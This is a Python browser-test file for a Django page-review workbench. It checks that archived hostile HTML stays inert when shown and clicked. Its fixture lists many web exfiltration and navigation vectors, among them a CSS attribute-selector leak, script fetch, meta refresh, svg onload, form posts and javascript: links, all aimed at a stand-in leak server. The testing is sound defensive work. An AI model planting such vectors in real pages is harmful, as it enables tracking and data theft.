"""Stored pages of the worst kind do nothing in the workbench: in a real Chromium, clicked at and looked at."""

from __future__ import annotations

import re
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from django.urls import reverse
from pytest_django import Settings

from tests.console import browsing as desk
from tests.console.inspection.archived import FRAGMENT, archived_review
from tests.console.inspection.reviewed import finding
from tests.console.province import make_province
from tests.fetch_store.local_server import Reply, serve
from xunwang.pages.harmless import harmless_copy
from xunwang.pages.picture import picture_of

pytestmark = desk.IN_BROWSER

BEFORE = """<!doctype html><html><head><meta charset=utf-8><title>x</title>
<meta http-equiv=refresh content="0;url=LEAK/refresh"><META/HTTP-EQUIV="refresh"CONTENT="0;url=LEAK/refresh2">
<base href="LEAK/base/" target=_top>
<link rel=stylesheet href="LEAK/css"><link rel=prefetch href="LEAK/prefetch"><link rel=preconnect href="LEAK">
<link rel=dns-prefetch href="LEAK"><link rel=icon href="LEAK/icon"><link rel=manifest href="LEAK/manifest">
<style>@import url(LEAK/import); @font-face{font-family:f;src:url(LEAK/font)} body{font-family:f;
background:url(LEAK/bg)} input[value^=a]{background:url(LEAK/exfil)} p::after{content:url(LEAK/content)}</style>
<script>document.title='ran';fetch('LEAK/script');top.location='LEAK/top'</script>
<script src="LEAK/src"></script><script type=module>import 'LEAK/module'</script>
</head><body background="LEAK/background" onload="document.title='ran';location='LEAK/onload'">"""
AFTER = """
<svg onload="document.title='ran';fetch('LEAK/svg')" width=300 height=60><image href="LEAK/image" width=9 height=9 />
<a><animate attributeName="href" values="LEAK/animated" dur="9s"/><text id=animated x=0 y=40>动画链接</text></a>
<foreignObject><iframe src="LEAK/foreign"></iframe></foreignObject></svg>
<iframe src="LEAK/iframe" srcdoc="<script>parent.document.title='ran'</script>"></iframe>
<object data="LEAK/object"></object><embed src="LEAK/embed"><video src="LEAK/video" poster="LEAK/poster" autoplay>
</video><audio src="LEAK/audio" autoplay></audio><img src="LEAK/img" srcset="LEAK/set 2x" onerror="document.title='ran'">
<picture><source srcset="LEAK/source"><img></picture><input type=image src="LEAK/input">
<form action="LEAK/form" method=post target=_top><input name=a value=abc autofocus><button id=send>提交</button></form>
<button id=other form=f formaction="LEAK/formaction">另一处提交</button><form id=f method=post></form>
<a id=plain href="LEAK/link" ping="LEAK/ping">链接</a> <a id=topmost href="LEAK/toplink" target=_top>顶层</a>
<a id=blank href="LEAK/blank" target=_blank>新窗口</a> <a id=script href="javascript:document.title='ran'">脚本</a>
<details open ontoggle="document.title='ran'"><summary>x</summary></details>
<marquee onstart="document.title='ran'">x</marquee><math href="LEAK/math"><mtext id=math>式</mtext></math></body></html>"""
CLICKED = (
    "#send", "#other", "#plain", "#topmost", "#blank", "#script", "#animated", "#math", "input[type=image]",
)  # fmt: skip


@pytest.fixture
def runs(settings: Settings, tmp_path: Path) -> Path:
    settings.RUNS = tmp_path / "runs"
    settings.RUNS.mkdir()
    return settings.RUNS


@pytest.fixture
def leak() -> Iterator[Any]:
    with serve(lambda _: Reply()) as server:
        yield server


def hostile(leak: Any, middle: str = "") -> str:
    filler = "<p style='height:90px'>其他内容</p>" * 20
    page = f"{BEFORE}{filler}{middle}<p>这里有{FRAGMENT}。</p>{AFTER}{filler}"
    return page.replace("LEAK", f"http://127.0.0.1:{leak.port}")


def opened(browser: Any, live: str, tab: str = "page") -> tuple[Any, list[str], list[str]]:
    page, _ = desk.enter(browser, live, "reviewer", desk.DESK)
    answered: list[str] = []
    dialogs: list[str] = []
    # What a policy blocks is reported as a request too: only answers have left the browser.
    page.context.on("response", lambda response: answered.append(response.url))
    page.on("dialog", lambda dialog: dialogs.append(dialog.message) or dialog.dismiss())
    page.goto(live + reverse("finding", args=[finding("W-D-23").pk]) + f"?tab={tab}")
    return page, answered, dialogs


def stored_frame(page: Any) -> Any:
    page.wait_for_selector("iframe.stored")
    page.wait_for_timeout(800)
    return next(frame for frame in page.frames if re.search(r"/pages/\d+/", frame.url))


def assert_nothing_happened(page: Any, live: str, answered: list[str], leak: Any, title: str) -> None:
    assert leak.asked == []
    assert [url for url in answered if not url.startswith((live, "data:"))] == []
    assert page.title() == title and page.url.startswith(live) and len(page.context.pages) == 1


def test_nothing_runs_loads_sends_or_leads_away_even_when_clicked(
    live: str, browser: Any, leak: Any, runs: Path
) -> None:
    archived_review(make_province(), runs, hostile(leak))
    page, answered, dialogs = opened(browser, live)
    title, address = page.title(), page.url
    frame = stored_frame(page)
    box = frame.locator("#xunwang-mark").bounding_box()
    assert 0 < box["y"] < desk.DESK[1], "the mark is in view"
    for target in CLICKED:
        frame.locator(target).first.click(timeout=30_000, force=True, no_wait_after=True)
        page.wait_for_timeout(150)
        assert page.url == address, target
        # A click that the browser blocked leaves an error page in the frame: open it again for the next.
        if target == "#animated":
            page.reload()
            frame = stored_frame(page)
    assert_nothing_happened(page, live, answered, leak, title)
    assert dialogs == []
    page.context.close()


def test_the_other_tabs_show_hostile_source_as_text(live: str, browser: Any, leak: Any, runs: Path) -> None:
    archived_review(make_province(), runs, hostile(leak))
    for tab in ("source", "facts"):
        page, answered, _ = opened(browser, live, tab)
        page.wait_for_timeout(300)
        assert_nothing_happened(page, live, answered, leak, page.title())
        page.context.close()


def test_a_huge_attribute_does_not_keep_the_workbench_from_opening(
    live: str, browser: Any, leak: Any, runs: Path
) -> None:
    archived_review(make_province(), runs, hostile(leak, f'<p title="{"A" * 10_000_000}">x</p>'))
    page, answered, _ = opened(browser, live)
    page.wait_for_selector("button[data-key=y]")
    assert "页面过大" in page.inner_text(".about")
    stored_frame(page)
    assert_nothing_happened(page, live, answered, leak, page.title())
    page.context.close()


def test_the_frame_of_a_page_shows_nothing_in_a_window_of_its_own(
    live: str, browser: Any, leak: Any, runs: Path
) -> None:
    archived_review(make_province(), runs, hostile(leak))
    page, answered, _ = opened(browser, live)
    page.goto(live + reverse("finding_page", args=[finding("W-D-23").pk, 1]))
    assert FRAGMENT not in page.content() and "框中显示" in page.content()
    assert leak.asked == [] and [url for url in answered if not url.startswith(live)] == []
    page.context.close()


def test_a_picture_is_drawn_without_asking_anybody(leak: Any) -> None:
    picture = picture_of(harmless_copy(hostile(leak).encode(), FRAGMENT))
    assert picture.startswith(b"\x89PNG") and len(picture) > 5_000
    assert leak.asked == []


def test_a_candidate_is_decided_with_the_keyboard_alone(
    live: str, browser: Any, leak: Any, runs: Path
) -> None:
    archived_review(make_province(), runs)
    page, trouble = desk.enter(browser, live, "reviewer", desk.DESK)
    page.goto(live + reverse("review", args=[finding("W-D-23").campaign_id]))
    page.get_by_role("button", name="开始复核").click()
    page.wait_for_selector("iframe.stored")
    page.wait_for_load_state()  # scripts begin when all is there
    first = page.url
    page.keyboard.press("m")
    page.keyboard.type("属实 y n")
    page.keyboard.press("Escape")
    page.keyboard.press("y")
    page.wait_for_url(lambda url: url != first)
    told = finding("W-V-01.1").decisions.get()
    assert (told.choice, told.reason) == ("confirm", "属实 y n") and told.seconds < 60
    page.keyboard.press("2")
    page.wait_for_selector("pre.source")
    page.get_by_role("button", name="快捷键：开").click()
    before = page.url
    page.keyboard.press("n")
    page.wait_for_timeout(300)
    assert page.url == before and page.get_by_role("button", name="快捷键：关").is_visible()
    assert trouble == []
    page.context.close()


def test_the_workbench_with_its_evidence_is_accessible(live: str, browser: Any, runs: Path) -> None:
    archived_review(make_province(), runs)
    page, trouble = desk.enter(browser, live, "reviewer", desk.DESK)
    desk.with_axe(page)
    found: list[str] = []
    for tab in ("page", "source", "picture", "facts"):
        page.goto(live + reverse("finding", args=[finding("W-D-23").pk]) + f"?tab={tab}")
        found += desk.faults(page, tab)
    assert found == [] and trouble == []
    page.context.close()
